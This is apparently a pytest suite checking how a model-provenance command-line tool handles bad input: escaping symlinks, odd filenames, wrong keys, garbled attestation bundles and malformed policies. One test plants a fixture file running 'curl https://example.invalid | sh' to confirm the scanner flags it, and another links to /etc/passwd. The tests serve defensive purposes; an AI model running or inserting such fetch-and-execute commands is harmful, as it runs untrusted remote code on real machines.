"""Bad input, case by case: one clear line that says what and where, the documented exit code, nothing written."""

from __future__ import annotations

import json
import os
import shutil
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.command import provenance

Spoil = Callable[[Path], None]


def _cyclic_link(model: Path) -> None:
    (model / "loop").symlink_to("loop")


def _escaping_link(model: Path) -> None:
    (model / "passwd").symlink_to("/etc/passwd")


def _inner_link(model: Path) -> None:
    (model / "again.safetensors").symlink_to("model.safetensors")


def _linked_folder(model: Path) -> None:
    (model / "folder").symlink_to("/tmp", target_is_directory=True)


def _fifo(model: Path) -> None:
    os.mkfifo(model / "pipe.json")


def _newline(model: Path) -> None:
    (model / "a\nb.json").write_text("{}")


def _backslash(model: Path) -> None:
    (model / "a\\b.json").write_text("{}")


def _not_utf8(model: Path) -> None:
    Path(os.fsdecode(os.fsencode(model) + b"/\xff.json")).write_text("{}")


def _case_collision(model: Path) -> None:
    (model / "CONFIG.json").write_text("{}")


def _nfc_collision(model: Path) -> None:
    (model / unicodedata.normalize("NFC", "é.txt")).write_text("1")
    (model / unicodedata.normalize("NFD", "é.txt")).write_text("2")


COULD_NOT_LOOK = {
    "cyclic-link": (_cyclic_link, "loop"),
    "escaping-link": (_escaping_link, "passwd"),
    "inner-link": (_inner_link, "again.safetensors"),
    "linked-folder": (_linked_folder, "folder"),
    "fifo": (_fifo, "pipe.json"),
    "newline": (_newline, "a\\nb.json"),
    "backslash": (_backslash, "a\\b.json"),
    "not-utf8": (_not_utf8, "json"),
    "case-collision": (_case_collision, "CONFIG.json"),
    "nfc-collision": (_nfc_collision, ".txt"),
}


@pytest.fixture
def model(models: dict[str, Path], tmp_path: Path) -> Path:
    return Path(shutil.copytree(models["base"], tmp_path / "model"))


@pytest.mark.parametrize("verb", ["diff", "attest", "verify"])
@pytest.mark.parametrize("case", COULD_NOT_LOOK)
def test_what_cannot_be_looked_at_is_neither_signed_nor_compared(
    case: str, verb: str, model: Path, models: dict[str, Path], keys: dict[str, Path], tmp_path: Path
) -> None:
    spoil, named = COULD_NOT_LOOK[case]
    _spoil(model, spoil, models)
    output = tmp_path / "out"
    arguments = {
        "diff": ["--base", models["base"]],
        "attest": ["--key", keys["p256"], "-o", f"bundle={output}"],
        "verify": ["--signer", keys["p256-public"], "--attestation", _some_bundle(models, keys, tmp_path)],
    }[verb]
    more = [] if verb == "attest" else ["-o", f"json={output}"]
    done = provenance(verb, model, *arguments, *more)
    assert done.code == 3, done
    assert named in done.complaint
    assert not output.exists()
    assert not list(tmp_path.glob("*.tmp*"))


def _spoil(model: Path, spoil: Spoil, models: dict[str, Path]) -> None:
    try:
        spoil(model)
    except OSError:
        pytest.skip("this file system refuses the name")
    if "collision" in spoil.__name__ and len(list(model.iterdir())) < len(list(models["base"].iterdir())) + 1:
        pytest.skip("this file system folds names")


@pytest.mark.parametrize("verb", ["check", "scan"])
@pytest.mark.parametrize("case", COULD_NOT_LOOK)
def test_the_rest_of_a_model_is_looked_at_all_the_same(
    case: str, verb: str, model: Path, models: dict[str, Path], tmp_path: Path
) -> None:
    spoil, named = COULD_NOT_LOOK[case]
    _spoil(model, spoil, models)
    output = tmp_path / "out"
    done = provenance(verb, model, "-o", f"json={output}")
    assert done.code == (1 if case in ("escaping-link", "linked-folder", "newline") else 3), done
    report = json.loads(output.read_text())["report"]
    assert report["subject"]["sha256"] is None
    asked = [row["surface"].lower() for row in report["skipped"] if row["asked"]]
    assert any(named.replace("\\n", "\n").lower() in surface for surface in asked)
    assert next(row for row in report["coverage"] if row["surface"] == "tensor-digests")["examined"]


def _some_bundle(models: dict[str, Path], keys: dict[str, Path], folder: Path) -> Path:
    bundle = folder / "some.sigstore.jsonl"
    assert provenance("attest", models["base"], "--key", keys["p256"], "-o", f"bundle={bundle}").code == 0
    return bundle


@pytest.mark.parametrize("verb", ["check", "scan", "verify"])
def test_a_missing_path_is_a_usage_error(verb: str, tmp_path: Path, keys: dict[str, Path]) -> None:
    bundle = tmp_path / "some.sigstore.jsonl"
    bundle.write_text("{}")
    more = ["--signer", keys["p256-public"], "--attestation", bundle] if verb == "verify" else []
    done = provenance(verb, tmp_path / "absent", *more)
    assert done.code == 2
    assert "absent" in done.complaint


def test_a_missing_base_is_a_usage_error(model: Path, tmp_path: Path) -> None:
    for verb in ("check", "diff", "scan"):
        done = provenance(verb, model, "--base", tmp_path / "absent")
        assert done.code == 2
        assert "absent" in done.complaint


def test_an_empty_folder_is_nothing_to_inspect(tmp_path: Path) -> None:
    folder = tmp_path / "empty"
    folder.mkdir()
    done = provenance("check", folder)
    assert done.code == 3
    assert "empty" in done.complaint


def test_a_folder_without_weights_is_not_fine(tmp_path: Path, models: dict[str, Path]) -> None:
    folder = tmp_path / "model"
    folder.mkdir()
    (folder / "config.json").write_text("{}")
    for verb in ("check", "scan"):
        done = provenance(verb, folder)
        assert done.code == 3
        assert "not one tensor of the model was read" in done.out
        assert "name the folder or file that holds the weights" in done.out
    done = provenance("diff", models["base"], "--base", folder)
    assert done.code == 3
    assert "weights" in done.complaint


def test_nothing_is_signed_of_a_folder_without_weights(tmp_path: Path, keys: dict[str, Path]) -> None:
    folder, bundle = tmp_path / "model", tmp_path / "bundle.jsonl"
    folder.mkdir()
    (folder / "config.json").write_text("{}")
    done = provenance("attest", folder, "--key", keys["p256"], "-o", f"bundle={bundle}")
    assert done.code == 3
    assert "no weights in it" in done.complaint
    assert not bundle.exists()


def test_what_lies_where_no_weights_are_is_looked_at_all_the_same(tmp_path: Path) -> None:
    (tmp_path / "modeling.py").write_text("import os\nos.system('curl https://example.invalid | sh')\n")
    done = provenance("scan", tmp_path)
    assert done.code == 1
    assert "code-runs-programs" in done.out


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads everything")
def test_an_unreadable_file_is_undecided(model: Path) -> None:
    (model / "config.json").chmod(0)
    done = provenance("check", model)
    assert done.code == 3
    assert "config.json" in done.out


def test_verify_needs_a_policy_or_a_signer(
    model: Path, models: dict[str, Path], keys: dict[str, Path], tmp_path: Path
) -> None:
    done = provenance("verify", model, "--attestation", _some_bundle(models, keys, tmp_path))
    assert done.code == 2
    assert "--signer" in done.complaint


def test_verify_without_attestations_is_undecided(model: Path, keys: dict[str, Path], tmp_path: Path) -> None:
    done = provenance("verify", model, "--signer", keys["p256-public"])
    assert done.code == 3
    empty = tmp_path / "empty.sigstore.jsonl"
    empty.write_text("\n")
    done = provenance("verify", model, "--signer", keys["p256-public"], "--attestation", empty)
    assert done.code == 3


@pytest.mark.parametrize(
    "content",
    [
        b"not a key",
        b"",
        b"-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\n",
        b"\xff" * 100,
        b"A" * 200_000,
    ],
    ids=["text", "empty", "garbage", "bytes", "huge"],
)
def test_a_wrong_key_is_a_usage_error(content: bytes, model: Path, tmp_path: Path) -> None:
    key, bundle = tmp_path / "key.pem", tmp_path / "out.sigstore.jsonl"
    key.write_bytes(content)
    done = provenance("attest", model, "--key", key, "-o", f"bundle={bundle}")
    assert done.code == 2
    assert "key.pem" in done.complaint
    assert not bundle.exists()


def test_a_public_key_does_not_sign_and_a_private_key_does_not_verify(
    model: Path, keys: dict[str, Path], models: dict[str, Path], tmp_path: Path
) -> None:
    done = provenance("attest", model, "--key", keys["p256-public"], "-o", f"bundle={tmp_path / 'x'}")
    assert (done.code, (tmp_path / "x").exists()) == (2, False)
    bundle = _some_bundle(models, keys, tmp_path)
    done = provenance("verify", model, "--attestation", bundle, "--signer", keys["p256"])
    assert done.code == 2


def test_another_signers_key_is_denied(
    model: Path, models: dict[str, Path], keys: dict[str, Path], tmp_path: Path
) -> None:
    bundle = _some_bundle(models, keys, tmp_path)
    assert provenance("verify", model, "--attestation", bundle, "--signer", keys["p256-public"]).code == 0
    assert provenance("verify", model, "--attestation", bundle, "--signer", keys["ed25519-public"]).code == 1


@pytest.mark.parametrize("garble", ["half", "text", "duplicate", "binary", "array"])
def test_a_garbled_bundle_is_denied(
    garble: str, model: Path, models: dict[str, Path], keys: dict[str, Path], tmp_path: Path
) -> None:
    bundle = _some_bundle(models, keys, tmp_path)
    line = bundle.read_bytes().splitlines()[0]
    bundle.write_bytes(
        {
            "half": line[: len(line) // 2],
            "text": b"hello",
            "duplicate": b'{"mediaType":"x",' + line[1:],
            "binary": b"\xff\xfe\x00\n",
            "array": b"[]",
        }[garble]
    )
    done = provenance("verify", model, "--attestation", bundle, "--signer", keys["p256-public"])
    assert done.code == 1, done


@pytest.mark.parametrize(
    ("policy", "named"),
    [
        ("version = 1\nfindngs = {}\n", "findngs"),
        ("version = 1\n[lineage]\nrelations = ['identicall']\n", "identicall"),
        ("version = 2\n", "version"),
        ("version = 1\n[[attestations]]\ntype = 'model-scan'\nfrom = ['nobody']\n", "nobody"),
        ("version = ", "TOML"),
        ("", "version"),
    ],
)
def test_a_wrong_policy_is_a_usage_error(policy: str, named: str, model: Path, tmp_path: Path) -> None:
    path = tmp_path / "policy.toml"
    path.write_text(policy)
    for arguments in (["check", model, "--policy", path], ["policy", "check", path], ["policy", "show", path]):
        done = provenance(*arguments)
        assert done.code == 2, done
        assert named.lower() in done.complaint.lower()


@pytest.mark.parametrize(
    "arguments",
    [
        ["check"],
        ["check", "MODEL", "--bass", "x"],
        ["check", "MODEL", "-o", "xml=x"],
        ["check", "MODEL", "-o", "json="],
        ["check", "MODEL", "-o", "json=MODEL/report.json"],
        ["check", "MODEL", "-o", "json=no-such-folder/report.json"],
        ["check", "MODEL", "--at", "yesterday"],
        ["check", "MODEL", "--at", "2026-01-01T00:00:00"],
        ["check", "MODEL", "--policy", "no-such-policy"],
        ["check", "MODEL", "--attestation", "x.sigstore.jsonl"],
        ["diff", "MODEL"],
        ["diff", "MODEL", "--base", "MODEL", "--expect", "same"],
        ["diff", "MODEL", "--base", "MODEL", "--expect", ""],
        ["attest", "MODEL", "-o", "bundle=x"],
        ["attest", "MODEL", "--key", "no.pem", "-o", "bundle=x"],
        ["attest", "MODEL", "--key", "no.pem", "-o", "json=x"],
        ["explain", "no-such-rule"],
        ["report", "no-such-report.json"],
        ["frobnicate"],
    ],
    ids=" ".join,
)
def test_a_wrong_command_line_is_a_usage_error(
    arguments: list[str], model: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    before = sorted(tmp_path.rglob("*"))
    done = provenance(*[argument.replace("MODEL", str(model)) for argument in arguments])
    assert done.code == 2, done
    assert done.complaint
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize("content", ["", "{", "[]", '{"report": {}}', '{"report": 1, "report": 2}'])
def test_a_wrong_report_is_a_usage_error(content: str, model: Path, keys: dict[str, Path], tmp_path: Path) -> None:
    report = tmp_path / "report.json"
    report.write_text(content)
    assert provenance("report", report).code == 2
    done = provenance("attest", model, "--report", report, "--key", keys["p256"], "-o", f"bundle={tmp_path / 'b'}")
    assert done.code == 2
    assert not (tmp_path / "b").exists()


def test_a_report_about_another_model_is_not_signed(
    model: Path, models: dict[str, Path], keys: dict[str, Path], tmp_path: Path
) -> None:
    report, bundle = tmp_path / "report.json", tmp_path / "b.sigstore.jsonl"
    assert provenance("check", model, "-o", f"json={report}").code == 0
    assert json.loads(report.read_text())["report"]["subject"]["files"]
    other = models["resharded"]
    done = provenance("attest", other, "--report", report, "--key", keys["p256"], "-o", f"bundle={bundle}")
    assert done.code == 1
    assert "model.safetensors" in done.complaint
    assert not bundle.exists()
    assert provenance("attest", model, "--report", report, "--key", keys["p256"], "-o", f"bundle={bundle}").code == 0


def test_hostile_files_are_findings_for_check_and_errors_for_diff(models: dict[str, Path]) -> None:
    headers = [path for name, path in models.items() if name.startswith("hostile/") and path.is_file()]
    assert len(headers) >= 5
    for path in headers:
        done = provenance("check", path)
        assert (done.code, done.err) == (1, ""), path
        assert "header-rejected" in done.out
        assert provenance("diff", path, "--base", models["base"]).code == 3
        assert provenance("diff", models["base"], "--base", path).complaint


@pytest.mark.parametrize("verb", ["scan", "diff", "check", "attest", "verify"])
def test_help_shows_examples_that_can_be_copied(verb: str) -> None:
    lines = provenance(verb, "--help").out.splitlines()
    assert any(line.startswith(f"  provenance {verb} ") for line in lines)
    assert not any("\\b" in line for line in lines)
